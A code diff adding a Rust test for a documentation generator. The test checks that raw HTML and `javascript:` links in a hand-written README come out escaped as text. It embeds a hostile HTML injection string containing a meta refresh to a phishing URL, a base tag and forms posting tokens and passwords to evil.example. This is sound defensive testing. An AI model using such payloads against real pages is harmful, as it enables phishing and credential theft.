@@ -401,6 +401,25 @@ fn a_description_with_line_breaks_and_entities_opens_no_markup_in_its_page() {
 /// The figures of the recorded power that the README, the manual and `explain BQ318` quote are
 /// the recording's: a new recording that moves them fails here until the prose says so (they
 /// had gone stale: 851 pairs, 513 cases and 242 unprotected against 956, 523 and 239).
+/// The hand-written pages are a pull request's to change: raw HTML there, after a comment or
+/// inside one a browser ends early, and a `javascript:` link reach no page as markup or a link.
+#[test]
+fn raw_html_and_script_links_in_a_hand_written_page_reach_its_html_as_text() {
+    let dir = docs_copy();
+    let p = dir.path();
+    let readme = std::fs::read_to_string(p.join("README.md")).unwrap();
+    let payload = "<!-- x --><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/phish\"><base href=\"https://evil.example/\"><form action=\"https://evil.example/steal\"><input name=token></form>\n\nInline too: <!-- a --!><form action=\"https://evil.example/\"><input name=pw></form> -->\n\n[js](javascript:document.title=1//://x)\n";
+    std::fs::write(p.join("README.md"), format!("{readme}\n{payload}")).unwrap();
+    let o = bqsuite(p, &["docs"]);
+    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
+    let html = std::fs::read_to_string(p.join("docs/html/readme.html")).unwrap();
+    for markup in ["<meta http-equiv=\"refresh", "<base", "<form", "<input", "javascript:document"] {
+        assert!(!html.contains(markup), "{markup} in the page");
+    }
+    assert!(html.contains("&lt;form action="), "the HTML is shown as text");
+    assert!(html.contains("base-uri 'none'; form-action 'none'"), "the policy forbids a base and a form's submission");
+}
+
 #[test]
 fn the_recorded_power_figures_the_docs_quote_are_the_recordings() {
     let power = bqsuite::sections::power::recorded();
